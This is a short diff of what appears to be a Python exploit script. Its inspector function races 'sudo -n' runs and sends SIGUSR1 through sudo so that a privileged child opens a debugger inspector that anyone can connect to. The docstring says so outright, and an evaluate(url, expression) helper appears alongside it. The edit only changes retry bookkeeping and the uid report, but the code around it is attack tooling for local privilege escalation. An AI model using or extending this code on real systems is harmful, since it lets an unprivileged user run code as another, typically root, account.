@@ -80,7 +80,7 @@ def evaluate(url, expression):
 
 def inspector(tries, *command):
     """SIGUSR1 to one's own sudo, which relays it: an inspector that opens obeys whoever connects."""
-    seen = 0
+    seen, uid = 0, None
     for number in range(1, int(tries) + 1):
         running = subprocess.Popen(["sudo", "-n", *command], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         time.sleep(random.uniform(0.02, 0.45))
@@ -106,9 +106,9 @@ def inspector(tries, *command):
             running.wait(5)
         except (subprocess.TimeoutExpired, PermissionError):
             pass
-        if seen:
+        if uid:
             break
-    print(f"{number} tries, inspector {f'answered as uid {uid[1].decode() if uid else None}' if seen else 'never seen'}")
+    print(f"{number} tries, inspector seen {seen} times{f', answered as uid {uid[1].decode()}' if uid else ''}")
 
 
 # --- 3, 10: load ---
